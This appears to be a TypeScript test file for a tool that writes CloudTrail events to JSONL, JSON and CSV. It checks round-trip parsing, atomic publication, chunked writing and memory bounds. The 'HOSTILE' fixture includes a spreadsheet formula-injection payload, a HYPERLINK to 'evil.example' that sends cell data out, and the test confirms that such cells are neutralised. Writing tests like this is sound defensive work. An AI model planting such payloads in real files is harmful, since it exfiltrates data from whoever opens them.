/**
 * Results files: each format read back by an independent reader (JSON.parse, jq, Python's csv
 * module), atomic publication, and bounded memory on a large stream.
 */
import { describe, it, expect, beforeEach, afterEach } from 'vitest';
import { execFileSync } from 'node:child_process';
import { mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { atomicWriteFile, openResultWriter } from '../../src/report/writers.js';
import type { MatchedEvent } from '../../src/engines/types.js';

function event(record: Record<string, unknown>): MatchedEvent {
  return {
    record,
    json: JSON.stringify(record),
    eventID: record.eventID as string | undefined,
    region: record.awsRegion as string | undefined,
  };
}

const HOSTILE: Array<Record<string, unknown>> = [
  {
    eventVersion: '1.08',
    userIdentity: {
      type: 'IAMUser',
      principalId: 'AIDAEXAMPLE',
      arn: 'arn:aws:iam::111122223333:user/al,ice',
      accountId: '111122223333',
      accessKeyId: 'AKIAEXAMPLE',
      userName: 'al,ice',
    },
    eventTime: '2023-07-10T10:00:00Z',
    eventSource: 's3.amazonaws.com',
    eventName: 'GetObject',
    awsRegion: 'eu-west-1',
    sourceIPAddress: '203.0.113.7',
    userAgent: 'agent "quoted", with comma\nand newline\r\nand CRLF',
    requestParameters: { bucketName: 'b', key: 'a "b", c\nd' },
    responseElements: null,
    additionalEventData: { 'x-amz-id-2': 'abc=' },
    requestID: 'REQ1',
    eventID: 'id-1',
    readOnly: true,
    resources: [{ accountId: '111122223333', type: 'AWS::S3::Bucket', ARN: 'arn:aws:s3:::b' }],
    eventType: 'AwsApiCall',
    managementEvent: false,
    recipientAccountId: '111122223333',
    eventCategory: 'Data',
  },
  {
    eventVersion: '1.08',
    userIdentity: { type: 'AWSService', invokedBy: 'ec2.amazonaws.com' },
    eventTime: '2023-07-10T11:00:00Z',
    eventSource: 'sts.amazonaws.com',
    eventName: 'AssumeRole',
    awsRegion: 'us-east-1',
    sourceIPAddress: 'ec2.amazonaws.com',
    userAgent: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    errorCode: 'AccessDenied',
    errorMessage: '-2+3 ünïcödé ✓ \u202e',
    requestParameters: { roleArn: 'arn:aws:iam::111122223333:role/r' },
    responseElements: null,
    requestID: 'c3f7',
    eventID: 'id-2',
    readOnly: false,
    eventType: 'AwsApiCall',
    managementEvent: true,
    recipientAccountId: '111122223333',
    eventCategory: 'Management',
    filtered_resource: { ARN: 'arn:aws:iam::111122223333:role/r', type: 'AWS::IAM::Role' },
  },
];

let dir: string;
beforeEach(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'ct-writers-'));
});
afterEach(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function writeAll(
  format: 'jsonl' | 'json' | 'csv',
  records: Array<Record<string, unknown>>,
  name = `results.${format}`,
) {
  const writer = await openResultWriter(dir, name, format);
  for (const r of records) await writer.write(event(r));
  await writer.commit();
  return path.join(dir, name);
}

describe('JSONL', () => {
  it('writes one record per line that reads back equal (JSON.parse and jq)', async () => {
    const file = await writeAll('jsonl', HOSTILE);
    const lines = (await readFile(file, 'utf8')).split('\n');
    expect(lines.at(-1)).toBe('');
    expect(lines.slice(0, -1).map((l) => JSON.parse(l))).toEqual(HOSTILE);
    expect(execFileSync('jq', ['-r', '.eventID', file], { encoding: 'utf8' })).toBe('id-1\nid-2\n');
  });

  it('keeps one event per line even when the engine text is pretty-printed', async () => {
    const writer = await openResultWriter(dir, 'r.jsonl', 'jsonl');
    await writer.write({ ...event(HOSTILE[0]!), json: JSON.stringify(HOSTILE[0], null, 2) });
    await writer.commit();
    const lines = (await readFile(path.join(dir, 'r.jsonl'), 'utf8')).trimEnd().split('\n');
    expect(lines).toHaveLength(1);
    expect(JSON.parse(lines[0]!)).toEqual(HOSTILE[0]);
  });
});

describe('events handed over as bytes (the scan engine)', () => {
  /** As the scan engine delivers a match: its stored text as UTF-8 bytes, spaced as stored. */
  function bytesEvent(record: Record<string, unknown>, text: string): MatchedEvent {
    const padded = Buffer.from(`##${text}##`, 'utf8'); // a view into a larger buffer, as in a batch
    return { ...event(record), json: text, jsonBytes: padded.subarray(2, padded.length - 2) };
  }
  const texts = HOSTILE.map((r) => JSON.stringify(r, null, 1).replace(/\n/g, ' '));

  it('JSONL and JSON hold those bytes exactly, mixed with events that only have text', async () => {
    for (const format of ['jsonl', 'json'] as const) {
      const writer = await openResultWriter(dir, `b.${format}`, format);
      await writer.write(bytesEvent(HOSTILE[0]!, texts[0]!));
      await writer.write(event(HOSTILE[1]!));
      await writer.write(bytesEvent(HOSTILE[1]!, texts[1]!));
      await writer.commit();
      const written = await readFile(path.join(dir, `b.${format}`), 'utf8');
      // The two copies of HOSTILE[1] share their time and eventID: the row's bytes decide, and
      // texts[1] (`{ "`) sorts before the compact text (`{"`).
      const expected =
        format === 'jsonl'
          ? `${texts[0]}\n${texts[1]}\n${JSON.stringify(HOSTILE[1])}\n`
          : `[\n${texts[0]},\n${texts[1]},\n${JSON.stringify(HOSTILE[1])}\n]\n`;
      expect(written).toBe(expected);
    }
  });

  it('CSV reads the record, not the bytes', async () => {
    const writer = await openResultWriter(dir, 'b.csv', 'csv');
    await writer.write(bytesEvent(HOSTILE[0]!, texts[0]!));
    await writer.commit();
    const plain = await writeAll('csv', [HOSTILE[0]!], 'plain.csv');
    expect(await readFile(path.join(dir, 'b.csv'), 'utf8')).toBe(await readFile(plain, 'utf8'));
  });
});

describe('JSON', () => {
  it('writes a JSON array that reads back equal', async () => {
    const file = await writeAll('json', HOSTILE);
    expect(JSON.parse(await readFile(file, 'utf8'))).toEqual(HOSTILE);
    expect(execFileSync('jq', ['length', file], { encoding: 'utf8' }).trim()).toBe('2');
  });

  it('writes [] for no matches', async () => {
    const file = await writeAll('json', []);
    expect(JSON.parse(await readFile(file, 'utf8'))).toEqual([]);
  });
});

describe('CSV', () => {
  /** Rows as Python's csv module (RFC 4180 dialect) reads them. */
  function pythonRows(file: string): string[][] {
    const script =
      'import csv,json,sys\nwith open(sys.argv[1], newline="", encoding="utf-8") as f: print(json.dumps(list(csv.reader(f))))';
    return JSON.parse(execFileSync('python3', ['-c', script, file], { encoding: 'utf8' })) as string[][];
  }

  it('writes the fixed header and one row per event, nested values as JSON, readable by a CSV parser', async () => {
    const file = await writeAll('csv', HOSTILE);
    const raw = await readFile(file, 'utf8');
    expect(
      raw.startsWith(
        'eventTime,eventSource,eventName,awsRegion,sourceIPAddress,userAgent,userIdentity.type,',
      ),
    ).toBe(true);
    expect(raw.endsWith('\r\n')).toBe(true);
    const [header, ...rows] = pythonRows(file);
    expect(rows).toHaveLength(2);
    const col = (row: string[], name: string) => row[header!.indexOf(name)];
    for (const name of [
      'userIdentity.arn',
      'userIdentity.accountId',
      'userIdentity.principalId',
      'userIdentity.userName',
      'userIdentity.accessKeyId',
      'userIdentity.sessionContext.sessionIssuer.arn',
      'errorCode',
      'errorMessage',
      'requestParameters',
      'responseElements',
      'additionalEventData',
      'resources',
      'requestID',
      'eventID',
      'readOnly',
      'eventType',
      'recipientAccountId',
      'eventCategory',
      'filtered_resource',
    ]) {
      expect(header).toContain(name);
    }
    const [first, second] = rows as [string[], string[]];
    expect(col(first, 'eventName')).toBe('GetObject');
    expect(col(first, 'userIdentity.userName')).toBe('al,ice');
    expect(col(first, 'userAgent')).toBe('agent "quoted", with comma\nand newline\r\nand CRLF');
    expect(JSON.parse(col(first, 'requestParameters')!)).toEqual(HOSTILE[0]!.requestParameters);
    expect(JSON.parse(col(first, 'resources')!)).toEqual(HOSTILE[0]!.resources);
    expect(col(first, 'responseElements')).toBe('');
    expect(col(first, 'readOnly')).toBe('true');
    expect(col(first, 'errorCode')).toBe('');
    expect(col(second, 'userIdentity.type')).toBe('AWSService');
    expect(col(second, 'errorCode')).toBe('AccessDenied');
    expect(JSON.parse(col(second, 'filtered_resource')!)).toEqual(HOSTILE[1]!.filtered_resource);
    expect(col(second, 'readOnly')).toBe('false');
  });

  it("prefixes cells that a spreadsheet would run as formulas with '", async () => {
    const file = await writeAll('csv', HOSTILE);
    const [header, , second] = pythonRows(file) as [string[], string[], string[]];
    expect(second[header.indexOf('userAgent')]).toBe(`'${HOSTILE[1]!.userAgent as string}`);
    expect(second[header.indexOf('errorMessage')]).toBe(`'${HOSTILE[1]!.errorMessage as string}`);
  });
});

describe('atomicity', () => {
  it('creates nothing under the final name before commit, and a hidden temp file that commit renames', async () => {
    const writer = await openResultWriter(dir, 'results.jsonl', 'jsonl');
    await writer.write(event(HOSTILE[0]!));
    expect(existsSync(path.join(dir, 'results.jsonl'))).toBe(false);
    const during = await readdir(dir);
    expect(during).toHaveLength(1);
    expect(during[0]).toMatch(/^\.results\.jsonl\..*\.tmp$/);
    await writer.commit();
    expect(await readdir(dir)).toEqual(['results.jsonl']);
  });

  it('removes the temp file on abort and leaves an older results file untouched', async () => {
    await writeFile(path.join(dir, 'results.json'), 'previous run');
    const writer = await openResultWriter(dir, 'results.json', 'json');
    await writer.write(event(HOSTILE[0]!));
    await writer.abort();
    await writer.abort();
    expect(await readdir(dir)).toEqual(['results.json']);
    expect(await readFile(path.join(dir, 'results.json'), 'utf8')).toBe('previous run');
    expect(() => writer.write(event(HOSTILE[1]!))).toThrow(/aborted/);
  });

  it('atomicWriteFile replaces a file whole and leaves no temp file, even when it fails', async () => {
    const target = path.join(dir, 'summary.json');
    await writeFile(target, 'old');
    await atomicWriteFile(target, '{"new":true}\n');
    expect(await readFile(target, 'utf8')).toBe('{"new":true}\n');
    expect(await readdir(dir)).toEqual(['summary.json']);
    await expect(atomicWriteFile(path.join(dir, 'missing-folder', 'plan.json'), '{}')).rejects.toThrow();
    expect(await readdir(dir)).toEqual(['summary.json']);
  });
});

describe('writing a chunk at a time', () => {
  /** An event with only text (no bytes): `n` records padded with `pad` to about `size` characters. */
  function sized(n: number, size: number, pad = 'x'): MatchedEvent {
    return event({ eventID: `id-${n}`, padding: pad.repeat(Math.max(0, Math.ceil(size / pad.length))) });
  }

  /** Events in the file's order: these have no eventTime, so by eventID (ASCII: as JS sorts). */
  const byId = (events: MatchedEvent[]): MatchedEvent[] =>
    [...events].sort((a, b) => (a.eventID! < b.eventID! ? -1 : a.eventID! > b.eventID! ? 1 : 0));

  it('returns a promise only from the write that sends a run of rows to disk, and refuses a write until it settles', async () => {
    const writer = await openResultWriter(dir, 'c.jsonl', 'jsonl', { sort: { runBytes: 256 * 1024 } });
    const events = Array.from({ length: 1000 }, (_, n) => sized(n, 1000));
    const promised: number[] = [];
    for (const [n, e] of events.entries()) {
      const flushing = writer.write(e);
      if (!flushing) continue;
      promised.push(n);
      // The run is being written: nothing may be added meanwhile.
      expect(() => writer.write(sized(-1, 10))).toThrow(/previous write has not finished/);
      await flushing;
    }
    await writer.commit();
    // ~1 KB per line, a run every 256 KB: ~3 of the 1,000 writes wait for the disk.
    expect(promised.length).toBeGreaterThanOrEqual(3);
    expect(promised.length).toBeLessThanOrEqual(4);
    expect(promised[0]).toBeGreaterThan(200);
    const expected = byId(events)
      .map((e) => `${e.json}\n`)
      .join('');
    expect(await readFile(path.join(dir, 'c.jsonl'), 'utf8')).toBe(expected);
    // The sorted runs' temporary file is gone with the commit.
    expect(await readdir(dir)).toEqual(['c.jsonl']);
  });

  it('writes events bigger than a chunk, and multi-byte text across chunk ends, exactly', async () => {
    const events: MatchedEvent[] = [];
    // Sizes that put chunk ends inside 2-, 3- and 4-byte characters and between them; every
    // third event handed over as bytes, the others as text only.
    for (let n = 0; n < 900; n++) {
      const e = sized(n, 700 + (n % 7), ['é', '✓', '🔑', 'a'][n % 4]);
      events.push(n % 3 === 0 ? { ...e, jsonBytes: Buffer.from(e.json) } : e);
    }
    events.splice(100, 0, sized(-1, 700_000, '日本'));
    events.splice(400, 0, { ...sized(-2, 300_000), jsonBytes: Buffer.from(sized(-2, 300_000).json) });
    const texts = byId(events).map((e) => e.json);
    for (const format of ['jsonl', 'json'] as const) {
      const writer = await openResultWriter(dir, `big.${format}`, format, { sort: { runBytes: 200_000 } });
      for (const e of events) await writer.write(e);
      await writer.commit();
      const expected = format === 'jsonl' ? `${texts.join('\n')}\n` : `[\n${texts.join(',\n')}\n]\n`;
      expect(await readFile(path.join(dir, `big.${format}`), 'utf8')).toBe(expected);
    }
  });
});

describe('large results', () => {
  it('streams 200,000 events with bounded memory', async () => {
    const base = { ...HOSTILE[0]!, padding: 'x'.repeat(600) };
    const n = 200_000;
    const writer = await openResultWriter(dir, 'big.jsonl', 'jsonl');
    const before = process.memoryUsage().heapUsed;
    let peak = before;
    for (let i = 0; i < n; i++) {
      const record = { ...base, eventID: `id-${i}` };
      await writer.write({ record, json: JSON.stringify(record), eventID: `id-${i}`, region: 'eu-west-1' });
      if (i % 5000 === 0) peak = Math.max(peak, process.memoryUsage().heapUsed);
    }
    await writer.commit();
    const file = path.join(dir, 'big.jsonl');
    // About 1 KB per event: ~200 MB written. Buffering it would grow the heap by as much.
    expect(Number(execFileSync('wc', ['-l', file], { encoding: 'utf8' }).split(' ')[0])).toBe(n);
    expect(
      execFileSync('bash', ['-c', `tail -n1 '${file}' | jq -r .eventID`], { encoding: 'utf8' }).trim(),
    ).toBe('id-99999'); // no eventTime: by eventID, and `id-99999` sorts last of id-0...id-199999
    expect(peak - before).toBeLessThan(64 * 1024 * 1024);
  });
});
